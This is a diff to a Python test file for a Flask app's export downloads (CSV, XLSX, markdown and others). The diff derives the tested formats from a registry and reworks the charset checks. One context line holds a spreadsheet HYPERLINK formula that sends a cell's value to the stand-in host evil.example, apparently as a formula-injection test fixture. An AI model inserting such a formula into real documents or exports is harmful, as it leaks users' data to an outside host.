@@ -13,6 +13,7 @@ import yaml
 from flask import Flask
 from flask.testing import FlaskClient
 
+from advisor.output.formats import FORMATS
 from advisor.store.accounts import create_token, user_by_name
 from advisor.store.tables import AssessmentRecord
 from tests.conftest import ROOT
@@ -22,7 +23,8 @@ from web.extensions import services
 
 CONTOSO: dict[str, Any] = yaml.safe_load((ROOT / "examples" / "contoso.yaml").read_text())
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
-KINDS = ("csv", "xlsx", "markdown", "pdf", "json")
+# Every format both the API and the plan page offer.
+KINDS = [f.name for f in FORMATS.values() if {"api", "page"} <= f.surfaces]
 
 # Both databases: PostgreSQL refuses NUL in text columns, so what is stored there matters.
 pytestmark = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)
@@ -92,15 +94,16 @@ def test_markdown_downloads_escape_html(app: Flask, anna: Browser) -> None:
 def test_every_export_has_exactly_one_charset_or_none(app: Flask, anna: Browser, kind: str) -> None:
     token = _token(app, "anna")
     assessment_id = _create(anna.client, token, CONTOSO)
+    spec = FORMATS[kind]
     for response in _downloads(anna, token, assessment_id, kind):
         assert response.status_code == 200
         content_type = response.headers["Content-Type"]
         charsets = content_type.lower().count("charset=")
-        if kind in ("csv", "markdown"):
+        if spec.binary or spec.essence == "application/json":
+            assert charsets == 0, content_type  # binary, or JSON (UTF-8 by definition)
+        else:
             assert charsets == 1, content_type
             assert content_type.endswith("; charset=utf-8")
-        else:
-            assert charsets == 0, content_type  # binary, or JSON (UTF-8 by definition)
 
 
 @pytest.mark.parametrize("kind", KINDS)
